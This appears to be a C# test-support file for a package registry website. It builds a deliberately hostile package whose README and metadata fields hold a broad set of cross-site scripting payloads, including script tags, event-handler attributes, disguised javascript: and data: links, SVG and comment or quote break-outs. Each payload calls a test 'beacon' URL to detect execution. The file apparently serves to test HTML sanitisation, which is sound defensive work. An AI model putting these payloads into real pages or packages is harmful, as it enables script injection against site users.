using System.Text.Json.Nodes;
using Registry.Testing;

namespace Registry.Site.Tests.Support;

/// <summary>
/// A package whose every field a page shows tries to run script or reach <see cref="Beacon"/>:
/// script tags, event attributes, javascript: and data: links (some disguised), inline SVG,
/// a comment broken out of, Markdig's attribute syntax, an image over http.
/// </summary>
public static class Hostile
{
    public static string Readme(string beacon) => $$"""
        # Evil <script>fetch('{{beacon}}/readme-script')</script>

        <script>new Image().src='{{beacon}}/script-block'</script>

        <img src=x onerror="fetch('{{beacon}}/onerror')">

        Some text <b onmouseover="fetch('{{beacon}}/inline-html')">bold</b> and a comment {{BrokenComment(beacon)}}

        [javascript link](javascript:fetch('{{beacon}}/js-link'))
        [upper case](JaVaScRiPt:fetch('{{beacon}}/js-upper'))
        [tab inside](java&#x09;script:fetch('{{beacon}}/js-tab'))
        [data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
        [vbscript](vbscript:msgbox(1))
        <javascript:fetch('{{beacon}}/autolink')>

        ![svg image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
        ![tracker over http]({{beacon}}/img-http)

        <svg onload="fetch('{{beacon}}/svg')"><script>fetch('{{beacon}}/svg-script')</script></svg>

        <iframe src="{{beacon}}/iframe"></iframe>
        <object data="{{beacon}}/object"></object>
        <style>body { background: url('{{beacon}}/style'); }</style>

        A heading with attributes {onclick="fetch('{{beacon}}/attr')"}

        [ref link][r]

        [r]: javascript:fetch('{{beacon}}/reflink') "title\" onmouseover=\"fetch('{{beacon}}/title')"

        | a | b |
        |---|---|
        | <script>fetch('{{beacon}}/table')</script> | [x](javascript:alert(1)) |

        [a fine link](https://example.com/docs) and [relative](docs/usage.md) and [mail](mailto:me@example.com)
        """;

    /// <summary>A comment broken out of, a script, and a comment left open (one line of the README).</summary>
    private static string BrokenComment(string beacon) =>
        $"--><script>fetch('{beacon}/comment')</script> <!-- open";

    public static string Description(string beacon) =>
        $"\"><script>fetch('{beacon}/description')</script><img src=x onerror=\"fetch('{beacon}/desc-img')\"> --><svg "
        + $"onload=\"fetch('{beacon}/desc-svg')\">";

    public static PackageBuilder Package(string name, string version, string beacon) =>
        PackageBuilder.Create(name, version)
            .WithField("description", Description(beacon))
            .WithField("license", $"<script>fetch('{beacon}/license')</script>")
            .WithField("authors", new JsonArray($"<img src=x onerror=\"fetch('{beacon}/author')\">", "Mallory"))
            .WithField("homepage", $"https://example.com/\"onmouseover=\"fetch('{beacon}/homepage')")
            .WithField("repository", $"https://example.com/repo?x=<script>fetch('{beacon}/repo')</script>")
            .WithFile("README.md", Readme(beacon));
}
